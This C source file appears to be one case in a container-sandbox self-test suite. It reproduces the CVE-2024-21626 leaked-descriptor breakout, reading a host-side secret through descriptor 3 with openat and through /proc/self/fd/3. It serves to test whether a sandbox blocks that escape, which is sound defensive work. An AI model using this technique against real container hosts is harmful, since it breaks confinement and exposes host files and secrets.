/* A host directory descriptor leaked into the container's process:
 * CVE-2024-21626 ("Leaky Vessels", runc < 1.1.12 leaked a descriptor of
 * the host's /sys/fs/cgroup; https://snyk.io/blog/cve-2024-21626-runc-process-cwd-container-breakout/).
 * Any directory descriptor that comes from the host is a way out: openat
 * relative to it walks host paths. The runner hands the container such a
 * descriptor on purpose (fd 3, a directory of the runner's that holds the
 * secret, passed with `--preserve-fds 1`); the attack reads the secret
 * through it, and through /proc/self/fd/3 as the CVE did. */
#include "attack.h"

#include <fcntl.h>
#include <libgen.h>
#include <unistd.h>

int attack_leaked_fd(void) {
    const char *secret = need_env("SELFTEST_SECRET");
    char copy[4096];
    snprintf(copy, sizeof copy, "%s", secret);
    const char *name = basename(copy);
    int fd = openat(3, name, O_RDONLY);
    if (fd < 0) {
        char via[4200];
        printf("openat(3, secret): %s\n", errname(errno));
        snprintf(via, sizeof via, "/proc/self/fd/3/%s", name);
        fd = open(via, O_RDONLY);
        if (fd < 0)
            BLOCKED_ERRNO("open /proc/self/fd/3/SECRET");
    }
    if (print_leak(fd) < 0)
        BLOCKED_ERRNO("read the secret");
    WORKED("read a host file through the leaked descriptor 3");
}
